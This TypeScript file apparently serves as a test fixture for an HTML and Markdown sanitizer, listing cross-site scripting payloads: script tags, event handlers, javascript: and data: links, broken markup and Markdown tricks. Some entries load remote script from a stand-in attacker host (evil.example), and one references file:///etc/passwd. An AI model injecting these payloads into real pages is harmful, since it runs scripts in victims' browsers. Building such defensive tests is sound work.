/** Words that try to run a script in the reader's browser: as HTML, through Markdown, through its links and references. */
export const xssPayloads: readonly string[] = [
  ...fromTags(),
  ...fromHandlers(),
  ...fromAddresses(),
  ...fromBrokenMarkup(),
  ...fromMarkdown(),
]

function fromTags(): string[] {
  return [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>*{background:url(javascript:alert(1))}</style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src=javascript:alert(1)></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=javascript:alert(1)></object>',
    '<embed src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
    '<math href=javascript:alert(1)>x</math>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src onerror=alert(1)>">',
    '<textarea></textarea><script>alert(1)</script>',
    '<title><img src=x onerror=alert(1)></title>',
    '<form action=javascript:alert(1)><button>x</button></form>',
    '<button formaction=javascript:alert(1)>x</button>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<frameset onload=alert(1)>',
    '<applet code=x></applet>',
    '<portal src=https://evil.example>',
  ]
}

function fromHandlers(): string[] {
  const elements = [
    'img src=x',
    'video src=x',
    'audio src=x',
    'details open',
    'body',
    'input autofocus',
    'select autofocus',
  ]
  const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']
  return elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert(1)>`))
}

function fromAddresses(): string[] {
  const addresses = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&#x09;script:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    '\u0001javascript:alert(1)',
    'javascript://%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    'jar:https://evil.example!/x',
  ]
  return addresses.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `<a href="${address}">x</a>`,
    `![x](${address})`,
  ])
}

function fromBrokenMarkup(): string[] {
  return [
    '<img src="x` `<script>alert(1)</script>"` `>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<<script>alert(1)//<</script>',
    '<img """><script>alert(1)</script>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p class="toast admin" id="app">x</p>',
    '<div/onmouseover=alert(1)>x</div>',
    '<img/src=`x`onerror=alert(1)>',
    '<img src=x\u000aonerror=alert(1)>',
    '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
    '<b onclick="alert(1)">x</b>',
    '<table background="javascript:alert(1)"><td>x</table>',
    '<xss contenteditable onblur=alert(1)>x</xss>',
    '<a href=//evil.example target=_blank rel=opener>x</a>',
  ]
}

function fromMarkdown(): string[] {
  return [
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x]: <javascript:alert(1)> "t"\n\n[y][x]',
    '![x]: data:text/html,x\n\n![x]',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://a.example/y.png)',
    '[![x](javascript:alert(1))](javascript:alert(2))',
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    '~~~<script>alert(1)</script>\nx\n~~~',
    '`<script>alert(1)</script>`',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '- <img src=x onerror=alert(1)>',
    '> <script>alert(1)</script>',
    '# <svg onload=alert(1)>',
    'a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>',
    '<https://a.example/"onmouseover="alert(1)>',
    'https://a.example/<script>alert(1)</script>',
    'www.a.example/"onmouseover="alert(1)',
    '\\<script>alert(1)\\</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ]
}
